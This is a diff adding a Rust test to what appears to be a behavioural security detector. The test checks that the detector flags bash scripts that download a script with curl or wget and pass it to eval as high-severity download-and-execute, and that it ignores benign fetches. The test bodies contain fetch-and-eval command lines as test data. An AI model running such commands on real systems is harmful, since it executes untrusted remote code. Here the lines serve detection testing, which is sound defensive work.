@@ -7454,3 +7454,62 @@ fn interpreter_loops_that_run_what_a_socket_sends() {
         kinds(&found)
     );
 }
+
+#[test]
+fn downloads_a_script_hands_to_eval() {
+    if !privileged("downloads_a_script_hands_to_eval") {
+        return;
+    }
+    let url = http_server();
+    let dir = Scratch::new("eval");
+    // Each form as a script file run by bash: the shell evaluates the substitution itself.
+    let script = |name: &str, body: &str| {
+        let path = dir.path(name);
+        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
+        run(Command::new("/bin/bash").arg(&path).current_dir(&dir.0))
+    };
+    for (name, body, writer) in [
+        (
+            "curl.sh",
+            format!("eval \"$(curl -s {url}/x.sh)\""),
+            "/usr/bin/curl",
+        ),
+        (
+            "wget.sh",
+            format!("eval $(wget -qO- {url}/x.sh)"),
+            "/usr/bin/wget",
+        ),
+        (
+            "backticks.sh",
+            format!("eval `curl -fsSL {url}/x.sh`"),
+            "/usr/bin/curl",
+        ),
+    ] {
+        let found = detect(script(name, &body));
+        let f = of(&found, "behaviour-download-pipe-exec");
+        assert_eq!(f.len(), 1, "{body}: {:?}", kinds(&found));
+        assert_eq!(f[0].severity_label, SeverityLabel::High, "{body}");
+        let a = &f[0].context.additional;
+        assert_eq!(a["pipeWriter"], writer, "{body}");
+        assert_eq!(
+            a["programReadFrom"], "a command substitution its script evaluates",
+            "{body}"
+        );
+        assert_eq!(a["script"], dir.path(name), "{body}");
+    }
+    // A value fetched and used as data, and eval of a local program's output: nothing at
+    // Medium or above.
+    for (name, body) in [
+        (
+            "data.sh",
+            format!("v=$(curl -s {url}/v.json); echo \"$v\" | wc -c"),
+        ),
+        (
+            "dircolors.sh",
+            "eval \"$(dircolors -b)\"; curl -s -o /dev/null URL".replace("URL", &url),
+        ),
+    ] {
+        let found = detect(script(name, &body));
+        assert!(loud(&found).is_empty(), "{body}: {:?}", kinds(&found));
+    }
+}
